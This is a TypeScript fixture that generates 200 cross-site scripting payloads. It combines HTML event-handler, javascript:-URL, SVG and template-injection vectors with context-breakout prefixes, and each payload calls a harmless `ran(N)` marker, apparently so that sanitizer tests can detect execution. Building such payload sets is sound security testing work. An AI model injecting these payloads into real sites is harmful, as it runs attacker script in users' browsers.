/** Two hundred texts that would run `ran(N)` in a page that treats them as anything but text. */

/** Markup that runs without any action of the user, or on a click. */
const markup: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<IMG SRC=x OnErRoR='${run}'>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<img src=x\nonerror\n=\n${run}>`,
  (run) => `<svg onload=${run}></svg>`,
  (run) => `<svg/onload=${run}></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><image href=x onerror=${run}></svg>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<video src=x onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src=x onerror=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<link rel=stylesheet href=x onerror=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<math href="javascript:${run}">x</math>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
]

/** Places in which a text might appear, and how to break out of them. */
const contexts: readonly ((made: string) => string)[] = [
  (made) => made,
  (made) => `">${made}`,
  (made) => `'>${made}`,
  (made) => `-->${made}`,
  (made) => `</textarea></title></style></script>${made}`,
]

/** Texts that run when they become an address, an attribute, a script or a template. */
const otherPayloads: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (run) => `" onmouseover=${run} x="`,
  (run) => `' autofocus onfocus=${run} x='`,
  (run) => `' style=animation-name:x onanimationstart=${run} x='`,
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\\';${run};//`,
  (run) => `\u2028${run}//`,
  (run) => `\${${run}}`,
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `[x](javascript:${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
]

export const payloads: readonly string[] = [
  ...contexts.flatMap((embed) => markup.map((made) => (run: string) => embed(made(run)))),
  ...otherPayloads,
].map((made, at) => made(`ran(${at})`))
